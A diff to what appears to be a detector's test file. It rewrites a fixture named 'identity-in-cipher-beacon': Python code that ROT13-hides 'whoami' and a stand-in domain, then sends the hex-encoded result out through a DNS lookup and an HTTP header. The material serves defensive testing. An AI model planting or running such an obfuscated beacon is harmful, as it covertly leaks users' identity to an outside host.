@@ -1325,17 +1325,14 @@ _each("identity-in-cipher-beacon", T, "a command hidden with str.maketrans/trans
     import subprocess
     import urllib.request
 
-    HIDDEN = 'jubnzv'
-    DOMAIN = 'qrzb.rknzcyr.vainyvq'
-
-
-    def clear(text):
-        return text.translate(str.maketrans('abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm'))
+    ROT13 = str.maketrans('abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm')
+    HIDDEN = 'jubnzv'.translate(ROT13)
+    DOMAIN = 'qrzb.rknzcyr.vainyvq'.translate(ROT13)
 
 
     def beacon():
-        who = subprocess.check_output(clear(HIDDEN), shell=True).decode().strip().encode().hex()
-        domain = clear(DOMAIN)
+        who = subprocess.check_output(HIDDEN, shell=True).decode().strip().encode().hex()
+        domain = DOMAIN
         try:
             socket.gethostbyname(who + '.' + domain)
             urllib.request.urlopen(urllib.request.Request('http://' + domain, headers={'X-D': who}), timeout=1)
